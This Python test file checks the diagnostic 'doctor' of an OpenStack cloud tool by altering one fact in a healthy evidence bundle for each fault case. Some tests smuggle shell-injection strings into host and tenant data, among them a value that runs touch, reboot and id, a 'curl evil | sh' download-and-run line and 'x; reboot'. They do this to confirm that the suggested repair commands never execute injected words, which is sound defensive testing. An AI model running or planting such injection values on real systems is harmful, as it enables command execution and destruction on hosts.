# SPDX-License-Identifier: Apache-2.0
"""Each link of the doctor on the evidence of a real healthy cloud, and on the same evidence with one thing changed.

`healthy.json.gz` was kept by `arbaro doctor --bundle` of a cloud with two computes, a server, and two physical machines.
What faults really look like is recorded by the drills; here a check is shown what it is for, and nothing else.
"""

import copy
import gzip
import json
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from arbaro.checks import Check, causes, judge, troubles
from arbaro.cluster.checks import CHECKS
from arbaro.doctor import hostlooks
from arbaro.doctor.examine import judged
from arbaro.doctor.links import COMES_BACK, LINKS
from arbaro.doctor.ports import moment
from arbaro.drills.catalogue import load_drills
from arbaro.errors import ArbaroError
from arbaro.evidence import Evidence, Seen

KEPT: dict[str, Any] = json.loads(gzip.decompress((Path(__file__).parent / "healthy.json.gz").read_bytes()))
FACTS = KEPT["facts"]
SERVER = next(number for number, one in FACTS["OpenStack"]["servers"]["value"].items() if one["name"] == "first-vm")
HOST: str = FACTS["OpenStack"]["servers"]["value"][SERVER]["host"]
OTHER = {"compute1": "compute2", "compute2": "compute1"}[HOST]
PORT = next(number for number, one in FACTS["OpenStack"]["ports"]["value"].items() if one["server"] == SERVER)
TAP = f"tap{PORT[:11]}"
ADDRESS: str = FACTS["OpenStack"]["ports"]["value"][PORT]["addresses"][0][0]
NEW = "11111111-2222-3333-4444-555555555555"
Change = Callable[[dict[str, Any]], object]


def evidence(change: Change = lambda facts: None) -> Evidence:
    """The kept evidence with a change: `facts` is place → what → {value, at, error}."""
    facts = copy.deepcopy(FACTS)
    change(facts)
    seen = {place: {what: Seen(**one) for what, one in its.items()} for place, its in facts.items()}
    return Evidence(KEPT["about"], seen, KEPT["wanted"])


def value(facts: dict[str, Any], place: str, what: str) -> Any:
    return facts[place][what]["value"]


def openstack(facts: dict[str, Any], what: str) -> Any:
    return value(facts, "OpenStack", what)


def server(facts: dict[str, Any]) -> Any:
    return openstack(facts, "servers")[SERVER]


def port(facts: dict[str, Any]) -> Any:
    return openstack(facts, "ports")[PORT]


def rules(facts: dict[str, Any], chain: str) -> list[Any]:
    found: list[Any] = value(facts, HOST, "packet filter")["inet arbaro_l2isolate"][chain]["rules"]
    return found


def disable(facts: dict[str, Any], *hosts: str) -> None:
    for one in openstack(facts, "compute services"):
        if one["host"] in hosts:
            one.update(status="disabled", disabled_reason="kernel update")


def no_rules(facts: dict[str, Any], **instead: Any) -> None:
    for group in openstack(facts, "security groups").values():
        group["rules"] = [rule | instead for rule in group["rules"] if rule["direction"] == "ingress" and instead]


def foreign_table(facts: dict[str, Any]) -> None:
    chain = {"hook": "forward", "policy": "drop", "type": "filter", "rules": []}
    value(facts, HOST, "packet filter")["ip docker"] = {"forward": chain}


def hole(facts: dict[str, Any]) -> None:
    facts[HOST]["routes"] = {"value": None, "at": 1.0, "error": "`ip` took more than 10 s"}


def filter_of(facts: dict[str, Any]) -> dict[str, Any]:
    """The packet filter of a host with servers, for one that has none."""
    return {"packet filter": facts[HOST]["packet filter"]}


def quota(facts: dict[str, Any]) -> None:
    server(facts).update(status="ERROR", vm_state="error", launched=None)
    openstack(facts, "quotas")[server(facts)["project"]] = {"instances": [3, 3]}


DROP = '[{"match": {"left": {"payload": {"field": "daddr", "protocol": "ip"}}, "op": "==", "right": "198.18.1.37"}}, {"drop": null}]'
ILL: dict[str, Change] = {
    "disk-full": lambda f: value(f, HOST, "disks").update(
        {"/var/lib/nova/instances": {"size": 24 << 20, "free": 24 << 20, "files": 9, "files free": 9}}
    ),
    "process-stopped": lambda f: value(f, HOST, "stopped processes").update(
        {"neutron-l2isolate-agent": {"pid": 7, "command": "neutron-l2isola", "state": "T"}}
    ),
    "database-silent": lambda f: f["controller"].update(
        database={"value": {"code": 124, "said": ""}, "at": 1.0, "error": ""}
    ),
    "database-full": lambda f: value(f, "controller", "database").update(
        most=value(f, "controller", "database")["open"]
    ),
    "queue-silent": lambda f: value(f, "controller", "queue").update(code=137, queues=[], users={}),
    "queue-blocked": lambda f: value(f, "controller", "queue").update(alarms=["memory"]),
    "queue-refuses": lambda f: value(f, "controller", "queue")["users"].pop("nova"),
    "queue-unread": lambda f: [
        one.update(messages=3, consumers=0)
        for one in value(f, "controller", "queue")["queues"]
        if one["name"] == f"compute.{HOST}"
    ],
    "keystone-keys": lambda f: [one.update(owner="root") for one in value(f, "controller", "keystone's keys")],
    "service-password": lambda f: value(f, "controller", "logins")[0].update(answer=401),
    "endpoint-dead": lambda f: openstack(f, "catalog").append(
        {"service": "neutron", "interface": "internal", "url": "http://controller:9697", "id": "e1"}
    ),
    "policy-changed": lambda f: value(f, "controller", "policies")["/etc/nova/policy.yaml"].update(
        {"os_compute_api:servers:create": "!"}
    ),
    "image-file-gone": lambda f: value(f, "controller", "image files").pop(
        next(number for number, one in openstack(f, "images").items() if one["name"] == "tiny")
    ),
    "tun-missing": lambda f: f[HOST]["tun"].update(value="missing"),
    "libvirt-silent": lambda f: value(f, HOST, "libvirt").update(code=124, domains={}),
    "guest-gone": lambda f: value(f, HOST, "libvirt")["domains"].pop(SERVER),
    "guest-off": lambda f: f[HOST]["domain states"].update(value={server(f)["domain"]: [5, 1]}),
    "guest-paused": lambda f: f[HOST]["domain states"].update(value={server(f)["domain"]: [3, 5]}),
    "name-changed": lambda f: value(f, HOST, "names in configuration")["said"].update({"/etc/nova/nova.conf": "other"}),
    "compute-disabled": lambda f: disable(f, HOST, OTHER),
    "compute-off-duty": lambda f: disable(f, OTHER),
    "provider-empty": lambda f: [
        one["inventories"]["DISK_GB"].update(reserved=10**6)
        for one in openstack(f, "placement").values()
        if one["name"] == HOST
    ],
    "allocations-orphaned": lambda f: [
        one["allocations"].update({NEW: {"MEMORY_MB": 9000}})
        for one in openstack(f, "placement").values()
        if one["name"] == HOST
    ],
    "record-of-nobody": lambda f: openstack(f, "network agents").append(
        {"id": NEW, "host": "gone", "binary": "neutron-l2isolate-agent", "alive": False}
    ),
    "port-elsewhere": lambda f: port(f).update(vif="binding_failed"),
    "tap-unready": lambda f: value(f, HOST, "addresses")[TAP].update(addresses=[]),
    "port-down": lambda f: port(f).update(status="DOWN"),
    "route-missing": lambda f: f[HOST]["routes"].update(
        value=[one for one in value(f, HOST, "routes") if one["dev"] != TAP]
    ),
    "dhcp-read-only": lambda f: f[HOST]["DHCP's file system"].update(value="ro,relatime"),
    "dhcp-entry-missing": lambda f: value(f, HOST, "DHCP entries").remove(TAP),
    "forwarding-off": lambda f: value(f, HOST, "sysctls").update({"net.ipv4.ip_forward": "0"}),
    "rp-filter-strict": lambda f: value(f, HOST, "sysctls").update({"net.ipv4.conf.all.rp_filter": "1"}),
    "one-leg-for-all": lambda f: value(f, HOST, "sysctls").update({"net.ipv4.fib_multipath_hash_policy": "0"}),
    "filter-missing": lambda f: value(f, HOST, "packet filter").pop("inet arbaro_l2isolate"),
    "other-firewall": foreign_table,
    "foreign-rule": lambda f: rules(f, "ingress").insert(0, [9999, DROP]),
    "way-in-missing": lambda f: value(f, "site", "the way in").pop("gateway"),
    "bfd-flaps": lambda f: value(f, HOST, "BFD")["tor1"].update(downs=9, uptime=4),
    "address-twice": lambda f: value(f, OTHER, "routes").append(
        {"to": ADDRESS, "dev": "dup0", "via": [], "protocol": "boot", "metric": 4209}
    ),
    "prefix-filtered": lambda f: value(f, HOST, "BGP routes")["routes"].pop(f"{ADDRESS}/32"),
    "fabric-misses": lambda f: [value(f, tor, "BGP routes")["routes"].pop(f"{ADDRESS}/32") for tor in ("tor1", "tor2")],
    "metadata-way-back": lambda f: value(f, "controller", "the way to servers").update(gateway="198.18.0.1"),
    "server-error": lambda f: server(f).update(status="ERROR", vm_state="error", fault="No valid host was found."),
    "server-rests": lambda f: server(f).update(status="SHUTOFF", vm_state="stopped"),
    "no-ingress-rule": no_rules,
    "group-empty": lambda f: no_rules(f, remote_group_id=NEW),
    "user-data-no-shebang": lambda f: server(f).update(user_data="unknown"),
    "not-looked-at": hole,
    "agent-fails": lambda f: f[HOST]["the agent's log"].update(
        value={"errors": 3, "said": "No such file or directory: 'nft'", "when": "2026-11-27T19:00:00"},
        at=moment("2026-11-27T19:00:20"),
    ),
    "agent-image-gone": lambda f: f[HOST].update(
        {"the agents' images": {"value": {"l2isolate-dhcp": "/var/lib/arbaro/agents/x"}, "at": 1.0, "error": ""}}
    ),
    "api-unreachable": lambda f: f[HOST]["endpoints"].update(
        value={url: said if url.startswith("tcp") else "timed out" for url, said in value(f, HOST, "endpoints").items()}
    ),
    "provider-missing": lambda f: f["OpenStack"]["placement"].update(
        value={number: one for number, one in openstack(f, "placement").items() if one["name"] != HOST}
    ),
    "filter-rule-missing": lambda f: (f[OTHER].update(copy.deepcopy(filter_of(f))), rules(f, "ingress").pop(1)),
    "conntrack-full": lambda f: f[HOST]["tracked connections"].update(value=[262144, 262144]),
    "guest-frozen": lambda f: value(f, HOST, "stopped processes").update(
        {"machine-qemu\\x2d2\\x2dinstance\\x2d00000005.scope": {"pid": 9, "command": "qemu-system-x86", "state": "T"}}
    ),
    "queue-unreachable": lambda f: value(f, HOST, "endpoints").update({"tcp://controller:5672": "Connection refused"}),
    "filter-incomplete": lambda f: value(f, HOST, "taps in the filter: ingress_of").remove(TAP),
    "routing-rule": lambda f: value(f, HOST, "policy routing").append("src all iif tor1 action blackhole"),
    "guest-unknown": lambda f: value(f, HOST, "libvirt")["domains"].update({NEW: "instance-0000dead"}),
    "task-stuck": lambda f: server(f).update(task_state="powering-off", updated="2020-01-01T00:00:00Z"),
    "fits-no-host": lambda f: openstack(f, "servers").update(
        {NEW: server(f) | {"status": "ERROR", "vm_state": "error", "host": None, "zone": "mars"}}
    ),
    "quota-used-up": quota,
    "session-down": lambda f: value(f, HOST, "BGP sessions").update(tor1="Idle (Admin)"),
}
OWN = [check for check in LINKS if check.id not in {one.id for one in CHECKS}]


def test_a_healthy_cloud_has_no_finding() -> None:
    assert troubles(judge(LINKS, evidence())) == []


def test_every_check_has_its_ill_case() -> None:
    assert {check.id for check in OWN} <= set(ILL)
    assert len({check.id for check in LINKS}) == len(LINKS)


@pytest.mark.parametrize("code", ILL)
def test_what_is_changed_is_the_cause(code: str) -> None:
    found = judge(LINKS, evidence(ILL[code]))
    (check,) = (one for one in LINKS if one.id == code)
    told = causes(found)
    if check.severity in ("error", "warning"):
        told = troubles(told)
        assert {one.check for one in told} == {code}, [str(one) for one in told]
    (cause, *_) = (one for one in told if one.check == code)
    assert cause.severity == check.severity and cause.saw
    assert code == "not-looked-at" or (cause.run and "{" not in cause.run)


@pytest.mark.parametrize("check", LINKS, ids=lambda check: check.id)
def test_needs_name_checks_that_there_are(check: Check) -> None:
    whole, known = evidence(), {one.id for one in LINKS}
    for spot in check.spots(whole):
        assert {need for need, _ in check.needs(whole, spot)} <= known


def test_what_drills_expect_is_what_the_doctor_knows() -> None:
    known = {check.id for check in LINKS}
    assert {cause.check for drill in load_drills().values() for cause in drill.expects} <= known


def test_what_comes_back_is_of_the_links() -> None:
    assert {check.id for check in LINKS} >= set(COMES_BACK)


@pytest.mark.parametrize("hosts", [("controller", HOST, OTHER), (HOST,)])
def test_a_login_that_the_queue_refuses_is_told_where_it_is_refused(hosts: tuple[str, ...]) -> None:
    """Connections that are open go on after a password has changed: counting them shows nothing for hours."""

    def refuse(facts: dict[str, Any]) -> None:
        for host in hosts:
            for one in value(facts, host, "logins to the queue"):
                one["answer"] = "refused" if one["user"] == "nova" else one["answer"]

    (cause,) = troubles(causes(judge(LINKS, evidence(refuse))))
    assert (cause.check, cause.where) == ("queue-refuses", HOST if hosts == (HOST,) else "controller")


EVIL = "x'; touch /tmp/owned; echo \"$(reboot)`id`"
HOSTILE: dict[str, Change] = {
    "other-firewall": lambda f: value(f, HOST, "packet filter").update(
        {f"ip {EVIL}": {"forward": {"hook": "forward", "policy": "drop", "type": "filter", "rules": []}}}
    ),
    "guest-unknown": lambda f: value(f, HOST, "libvirt")["domains"].update({NEW: EVIL}),
    "prefix-filtered": lambda f: f[HOST]["FRR's refusals"].update(value=[f"deny {ADDRESS}/32 {EVIL}"]),
    "endpoint-dead": lambda f: openstack(f, "catalog").append(
        {"service": "neutron", "interface": "internal", "url": f"http://x/{EVIL}", "id": EVIL}
    ),
    "routing-rule": lambda f: value(f, HOST, "policy routing").append(f"src all iif {EVIL} action blackhole"),
    "name-changed": lambda f: value(f, HOST, "names in configuration")["said"].update({f"/etc/nova/{EVIL}": "other"}),
    "address-twice": lambda f: value(f, OTHER, "routes").append(
        {"to": ADDRESS, "dev": EVIL, "via": [], "protocol": "boot", "metric": 4209}
    ),
    "policy-changed": lambda f: value(f, "controller", "policies")["/etc/nova/policy.yaml"].update({EVIL: "!"}),
}


@pytest.mark.parametrize("code", HOSTILE)
def test_what_hosts_and_tenants_say_is_no_command(code: str, tmp_path: Path) -> None:
    """The command is going to be typed: neither this shell nor the host's may take a word of others for its own."""
    (cause, *_) = (one for one in judge(LINKS, evidence(HOSTILE[code])) if one.check == code)
    tried = tmp_path / "tried"
    commands = ["touch", "reboot", "id"]
    for name in (*commands, "nft", "virsh", "vtysh", "ip", "sed", "systemctl", "openstack"):
        (tmp_path / name).write_text(f"#!/bin/sh\necho {name} >>{tried}\n")
    # Its words are run by a shell, as SSH has them run on the host.
    (tmp_path / "arbaro").write_text('#!/bin/sh\nshift 4\nexec sh -c "$*"\n')
    for file in tmp_path.iterdir():
        file.chmod(0o755)
    env = {"PATH": f"{tmp_path}:/bin:/usr/bin"}
    subprocess.run(["bash", "-c", cause.run], env=env, cwd=tmp_path, check=False, capture_output=True)
    done = tried.read_text().split()
    assert done and not set(done) & set(commands), cause.run


def test_evidence_that_lacks_a_part_is_never_healthy() -> None:
    """A bundle that somebody has cut, or that another version made."""
    for place in FACTS:
        for what in hostlooks.OF[""] if place in ("controller", HOST) else ():
            assert troubles(judge(LINKS, evidence(lambda facts, p=place, w=what: facts[p].pop(w)))), (place, what)  # type: ignore[misc]
        if place != "site":
            assert troubles(judge(LINKS, evidence(lambda facts, p=place: facts.pop(p)))), place  # type: ignore[misc]
    with pytest.raises(ArbaroError, match="calls something"):
        judged(Evidence("x; reboot", evidence().facts, KEPT["wanted"]))
    foreign = {**KEPT["wanted"], "site": KEPT["wanted"]["site"] | {"ssh": "curl evil | sh; {host}"}}
    (cause, *_) = judged(Evidence(KEPT["about"], evidence(ILL["tun-missing"]).facts, foreign)).findings
    assert cause.run.startswith("arbaro ssh test ")
    with pytest.raises(ArbaroError, match="not the doctor's"):
        judged(Evidence("x"))


def test_nothing_seen_is_never_healthy() -> None:
    """Whatever single fact could not be looked at, the doctor says so."""
    for place, facts in FACTS.items():
        for what in facts:

            def blind(changed: dict[str, Any], place: str = place, what: str = what) -> None:
                changed[place][what] = {"value": None, "at": 1.0, "error": "it hung"}

            assert troubles(judge(LINKS, evidence(blind))), (place, what)
